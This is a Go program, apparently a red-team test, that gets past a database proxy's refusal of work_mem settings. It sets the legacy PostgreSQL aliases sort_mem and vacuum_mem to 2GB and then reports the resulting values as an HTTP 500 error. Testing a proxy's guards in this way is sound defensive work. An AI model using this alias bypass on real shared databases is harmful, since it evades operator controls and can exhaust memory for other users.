// Red team round 6: the role's work_mem raised past the proxy's refusal.
//
// The proxy refuses SET work_mem and SET maintenance_work_mem, but
// PostgreSQL still takes their old names, sort_mem and vacuum_mem, for
// them. On a shared server (the url provider, a batch) a session with
// 2GB of work_mem per sort or hash is a memory DoS.
//
// The program raises both, checks what it got, and answers every request
// with a 500 naming it, so that the card shows the bound broken.
package main

import (
	"context"
	"fmt"
	"net/http"
	"os"

	"github.com/jackc/pgx/v5"
)

func main() {
	ctx := context.Background()
	conn, err := pgx.Connect(ctx, os.Getenv("DATABASE_URL"))
	if err != nil {
		panic(err)
	}
	if _, err := conn.Exec(ctx, "SET sort_mem = '2GB'"); err != nil {
		panic(err)
	}
	if _, err := conn.Exec(ctx, "SET vacuum_mem = '2GB'"); err != nil {
		panic(err)
	}
	var work, maint string
	if err := conn.QueryRow(ctx, "SELECT current_setting('work_mem'), current_setting('maintenance_work_mem')").Scan(&work, &maint); err != nil {
		panic(err)
	}
	http.HandleFunc("/api/orders", func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, fmt.Sprintf("work_mem=%s maintenance_work_mem=%s", work, maint), 500)
	})
	panic(http.ListenAndServe("127.0.0.1:"+os.Getenv("PORT"), nil))
}
